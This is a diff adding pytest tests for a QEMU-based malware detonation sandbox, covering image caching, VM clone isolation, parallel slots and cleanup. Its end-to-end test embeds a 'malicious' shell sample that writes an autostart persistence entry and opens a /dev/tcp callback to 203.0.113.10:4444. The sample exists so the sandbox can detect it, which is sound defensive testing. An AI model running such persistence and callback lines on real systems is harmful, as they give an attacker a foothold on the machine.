@@ -1,0 +1,318 @@
+"""The qemu backend with real QEMU (TCG here): image, template, flash clones, doorbell, clean-up.
+
+A session-scoped fixture builds the guest image into a fixed cache
+(``MAILVM_TEST_IMAGE_DIR``, default /var/cache/mailvm-test/image: rebuilt
+only when an input changes) and prepares one backend whose template is also
+cached (``.../qemu-pool``).  Every slot the tests make is tracked and
+destroyed at teardown, and the session fails if a QEMU process of ours is
+still running afterwards.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import os
+import shutil
+import signal
+import statistics
+import textwrap
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from mailvm.config import PoolConfig
+from mailvm.guest import protocol as P
+from mailvm.vmpool.backends import BACKENDS
+from mailvm.vmpool.backends.qemu import QemuBackend, VMPaths, VMSpec, qemu_argv
+from mailvm.vmpool.image.layout import Image, load_image
+from mailvm.vmpool.shmpage import PageError
+
+pytestmark = pytest.mark.qemu
+
+CACHE = Path(os.environ.get("MAILVM_TEST_IMAGE_DIR", "/var/cache/mailvm-test/image"))
+POOL_DIR = CACHE.parent / "qemu-pool"
+PAGE = 8 << 20
+
+
+def soon(s: float = 20.0) -> float:
+    return time.monotonic() + s
+
+
+def our_qemus(marker: str) -> list[int]:
+    """Live qemu-system processes whose command line mentions ``marker``."""
+    found = []
+    for pid in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
+            state = Path(f"/proc/{pid}/stat").read_text().rsplit(") ", 1)[1][0]
+        except (OSError, IndexError):
+            continue
+        if b"qemu-system" in cmd and marker.encode() in cmd and state != "Z":
+            found.append(int(pid))
+    return found
+
+
+@pytest.fixture(scope="session")
+def image() -> Image:
+    if shutil.which("qemu-system-x86_64") is None:
+        pytest.skip("qemu-system-x86_64 is not installed")
+    if os.geteuid() != 0 or shutil.which("debootstrap") is None:
+        pytest.skip("building the guest image needs root and debootstrap")
+    from mailvm.vmpool.image.build import BuildOptions, build
+
+    result = build(BuildOptions(cache_dir=str(CACHE)))
+    print(f"\nimage {result.image.version}: {result.stages} in {result.seconds:.1f} s")
+    return result.image
+
+
+@pytest.fixture(scope="session")
+def backend(image):
+    cfg = PoolConfig(backend="qemu", accel="tcg", work_dir=str(POOL_DIR), page_bytes=PAGE, ready_timeout_s=60.0)
+    cfg.image_dir = str(CACHE)  # type: ignore[attr-defined]  # the key the lead adds to PoolConfig
+    b = QemuBackend(cfg, image_dir=str(CACHE))
+    t0 = time.monotonic()
+    b.prepare()
+    print(f"\nprepare: {time.monotonic() - t0:.1f} s, template {b.template.meta}")
+    made = []
+    real_create = b.create_slot
+
+    def create(slot_id):
+        slot = real_create(slot_id)
+        made.append(slot)
+        return slot
+
+    b.create_slot = create
+    yield b
+    for slot in made:
+        slot.destroy()
+    b.close()
+    left = our_qemus(str(POOL_DIR))
+    for pid in left:  # never leave them running, but fail the check
+        os.kill(pid, signal.SIGKILL)
+    assert left == [], f"QEMU processes left after the session: {left}"
+
+
+# -- without a VM ----------------------------------------------------------------------------
+def _fake_image(tmp_path) -> Image:
+    return Image(str(tmp_path), {"key": "k" * 64})
+
+
+def test_registered():
+    assert BACKENDS["qemu"] is QemuBackend
+
+
+def test_command_line_has_no_network_and_clones_are_copy_on_write(tmp_path):
+    spec = VMSpec(_fake_image(tmp_path), "tcg", 256, PAGE, "vport")
+    clone = VMPaths("/dev/shm/t.ram", False, "/dev/shm/p", "/q", "/b", "/c")
+    argv = qemu_argv(spec, clone, incoming=True)
+    joined = " ".join(argv)
+    assert "-nodefaults" in argv and "-netdev" not in argv and "-nic" not in joined and "-net " not in joined
+    assert "mem-path=/dev/shm/t.ram,share=off" in joined
+    assert "mem-path=/dev/shm/p,share=on" in joined
+    assert argv[-2:] == ["-incoming", "defer"]
+    assert "spawn=deny" in joined
+    ref = qemu_argv(spec, VMPaths("/dev/shm/t.ram", True, "/dev/shm/p", "/q", "/b", "/c"), incoming=False)
+    assert "share=on" in ref[ref.index("-object") + 1] and "-incoming" not in ref
+    assert "mailvm.doorbell=vport:mailvm.bell" in joined and "virtserialport" in joined
+    assert "mailvm.doorbell=dev:/dev/ttyS1" in " ".join(qemu_argv(VMSpec(spec.image, "tcg", 256, PAGE, "serial"), clone, True))
+    # everything that shapes the guest changes the template key
+    keys = {VMSpec(spec.image, a, m, p, d).key("q")
+            for a, m, p, d in [("tcg", 256, PAGE, "vport"), ("kvm", 256, PAGE, "vport"), ("tcg", 512, PAGE, "vport"),
+                               ("tcg", 256, 2 * PAGE, "vport"), ("tcg", 256, PAGE, "serial")]}
+    assert len(keys) == 5
+
+
+def test_bad_settings_are_refused():
+    with pytest.raises(ValueError):
+        QemuBackend(PoolConfig(), doorbell="carrier-pigeon")
+    with pytest.raises(ValueError):
+        QemuBackend(PoolConfig(), doorbell="poll")  # needs MIN
+    with pytest.raises(ValueError):
+        QemuBackend(PoolConfig(), mem_mib=8)
+
+
+def test_probe_without_an_image_names_the_build_command(tmp_path):
+    cfg = PoolConfig()
+    cfg.image_dir = str(tmp_path / "none")  # type: ignore[attr-defined]
+    why = QemuBackend.probe(cfg)
+    if shutil.which("qemu-system-x86_64") is None:
+        assert "not installed" in why
+    else:
+        assert "mvctl image build" in why
+
+
+# -- image ---------------------------------------------------------------------------------------
+def test_image_manifest_and_cache(image):
+    m = image.manifest
+    for pkg in ("python3", "strace", "bubblewrap", "iproute2", "iptables"):
+        assert pkg in m["packages"], pkg
+    assert m["inputs"]["kernel"]["package"].startswith("linux-image-") and "cloud" in m["inputs"]["kernel"]["package"]
+    assert "mailvm/guest/agent.py" in m["inputs"]["agent"]
+    for name in ("vmlinuz", "initrd.img"):
+        h = hashlib.sha256(Path(image.dir, name).read_bytes()).hexdigest()
+        assert h == m["files"][name]["sha256"]
+    assert "virtio_console.ko" in m["initramfs_modules_loaded"]
+    from mailvm.vmpool.image.build import BuildOptions, build
+
+    t0 = time.monotonic()
+    again = build(BuildOptions(cache_dir=str(CACHE)))
+    assert again.cached and again.image.key == image.key and time.monotonic() - t0 < 30
+    assert load_image(str(CACHE)).key == image.key
+
+
+# -- template and clones ------------------------------------------------------------------------
+def test_prepared_under_tcg_and_template_private(backend):
+    info = backend.info()
+    assert info.name == "qemu" and info.accel == "tcg" and "TCG" in info.isolation
+    t = backend.template
+    assert os.stat(t.dir).st_mode & 0o777 == 0o700
+    assert os.stat(t.ram).st_mode & 0o777 == 0o600
+    assert t.meta["state_bytes"] < 8 << 20  # device state only: RAM stays in the shared file
+
+
+def test_clone_is_prewarmed_cheap_when_idle_and_destroyed_cleanly(backend):
+    slot = backend.create_slot("idle")
+    assert slot.alive() and slot.page.state() == P.READY
+    print(f"\nrefill timings: {slot.stats()['timings_ms']}")
+    pid = slot.vm.proc.pid
+    time.sleep(0.5)
+    cpu0, t0, hb0 = slot.stats()["cpu_s"], time.monotonic(), slot.page.heartbeat()
+    time.sleep(3.0)
+    used = (slot.stats()["cpu_s"] - cpu0) / (time.monotonic() - t0)
+    print(f"idle clone CPU: {used * 100:.2f} % of a core, PSS {slot.stats()['pss_kib']} KiB")
+    assert used < 0.05  # target < 2 %, measured ~0.7 %; generous on a shared 2-core host
+    assert slot.page.heartbeat() > hb0  # asleep, but alive
+    page, d = slot.page.path, slot.slot_dir
+    slot.destroy()
+    slot.destroy()
+    assert not slot.alive() and not os.path.exists(page) and not os.path.exists(d)
+    assert pid not in our_qemus(str(POOL_DIR))
+
+
+def _job(slot, data=b"#!/bin/sh\ntrue\n", name="t.sh", timeout=20.0):
+    t0 = time.perf_counter()
+    slot.page.submit(data, name, {"timeout_s": timeout, "idle_s": 2, "max_result_bytes": 1 << 20})
+    slot.ring()
+    st = slot.page.wait_state({P.RUNNING, P.DONE, P.FAILED}, soon(), alive=slot.alive)
+    handover = (time.perf_counter() - t0) * 1000
+    assert st in (P.RUNNING, P.DONE, P.FAILED)
+    st = slot.page.wait_state({P.DONE, P.FAILED}, soon(timeout + 60), alive=slot.alive, heartbeat_timeout=20)
+    return handover, st, slot.page.read_result(1 << 20)
+
+
+def test_job_round_trip_and_handover(backend):
+    figures = []
+    for i in range(3):
+        slot = backend.create_slot(f"h{i}")
+        handover, st, result = _job(slot)
+        figures.append(handover)
+        assert result["verdict"] in ("clean", "suspicious", "malicious", "error")
+        slot.destroy()
+    print(f"\nhand-over (submit+ring -> RUNNING): {', '.join(f'{f:.2f}' for f in figures)} ms")
+    assert statistics.median(figures) < 50  # target < 2 ms; generous for a loaded CI host
+
+
+def test_four_slots_in_parallel(backend):
+    slots, errors = [], []
+
+    def make(i):
+        try:
+            slots.append(backend.create_slot(f"par{i}"))
+        except Exception as exc:  # reported below
+            errors.append(exc)
+
+    threads = [threading.Thread(target=make, args=(i,)) for i in range(4)]
+    t0 = time.monotonic()
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    print(f"\n4 clones in {time.monotonic() - t0:.2f} s")
+    assert not errors and len(slots) == 4
+    assert len({s.vm.proc.pid for s in slots}) == 4
+    results = []
+    for s in slots:
+        s.page.submit(b"#!/bin/sh\ntrue\n", f"{s.id}.sh", {"timeout_s": 20, "idle_s": 2})
+        s.ring()
+    for s in slots:
+        assert s.page.wait_state({P.DONE, P.FAILED}, soon(120), alive=s.alive) in P.TERMINAL
+        results.append(s.page.read_result(1 << 20))
+    assert len(results) == 4
+    for s in slots:
+        s.destroy()
+
+
+def test_killed_qemu_is_detected_quickly(backend):
+    slot = backend.create_slot("kill")
+    slot.page.submit(b"#!/bin/sh\nsleep 30\n", "slow.sh", {"timeout_s": 60})
+    os.kill(slot.vm.proc.pid, signal.SIGKILL)
+    t0 = time.monotonic()
+    with pytest.raises(PageError, match="died"):
+        slot.page.wait_state({P.DONE, P.FAILED}, soon(), alive=slot.alive)
+    assert time.monotonic() - t0 < 1.0
+    assert not slot.alive()
+    slot.destroy()
+    assert not os.path.exists(slot.slot_dir)
+
+
+def _sha(path: str) -> str:
+    h = hashlib.sha256()
+    with open(path, "rb") as f:
+        while chunk := f.read(1 << 20):
+            h.update(chunk)
+    return h.hexdigest()
+
+
+def test_guest_writes_stay_in_their_clone(backend, image):
+    """Clone A writes (the agent stores the sample in guest /tmp, the tmpfs overlay): the
+    template RAM, its state and the root image, from which clone B starts, are unchanged."""
+    t = backend.template
+    before = (_sha(t.ram), _sha(t.state), os.path.getmtime(image.rootfs))
+    a = backend.create_slot("writer")
+    marker = os.urandom(64 * 1024)  # 64 KiB of guest writes: the sample file, in a tmpfs
+    _job(a, marker, "marker.bin")
+    a.destroy()
+    b = backend.create_slot("next")
+    assert (_sha(t.ram), _sha(t.state), os.path.getmtime(image.rootfs)) == before
+    with open(t.ram, "rb") as f:
+        assert marker[:4096] not in f.read()
+    assert b.page.state() == P.READY
+    b.destroy()
+
+
+def test_template_is_reused_by_a_new_backend(backend):
+    b2 = QemuBackend(backend.cfg, image_dir=backend.image_dir)
+    t0 = time.monotonic()
+    b2.prepare()
+    assert time.monotonic() - t0 < 5 and b2.template.key == backend.template.key
+    b2.close()
+
+
+# -- end to end through the real detonation runner -----------------------------------------------
+def _runner_in_image(image: Image) -> bool:
+    return "mailvm/guest/detonate.py" in image.manifest.get("inputs", {}).get("agent", {})
+
+
+BENIGN = b"#!/bin/sh\necho hello > greeting.txt\ncat greeting.txt\n"
+MALICIOUS = textwrap.dedent("""\
+    #!/bin/sh
+    mkdir -p "$HOME/.config/autostart"
+    printf '[Desktop Entry]\\nType=Application\\nExec=/tmp/.x\\n' > "$HOME/.config/autostart/x.desktop"
+    exec 3<>/dev/tcp/203.0.113.10/4444 2>/dev/null || python3 -c 'import socket; s=socket.socket(); s.settimeout(3); s.connect(("203.0.113.10", 4444))'
+    (setsid sleep 987654 &)
+    """).encode()
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("data,name,expected", [(BENIGN, "hello.sh", "clean"), (MALICIOUS, "update.sh", "malicious")])
+def test_end_to_end_verdicts_match_the_process_backend(backend, image, data, name, expected):
+    if not _runner_in_image(image):
+        pytest.skip("mailvm.guest.detonate not in the image yet")
+    slot = backend.create_slot(f"e2e-{expected}")
+    handover, st, result = _job(slot, data, name, timeout=60)
+    print(f"\n{name}: {P.state_name(st)} {result['verdict']} {result['score']}",
+          [f["id"] for f in result["findings"]])
+    assert st == P.DONE and result["verdict"] == expected, result["findings"]
+    slot.destroy()
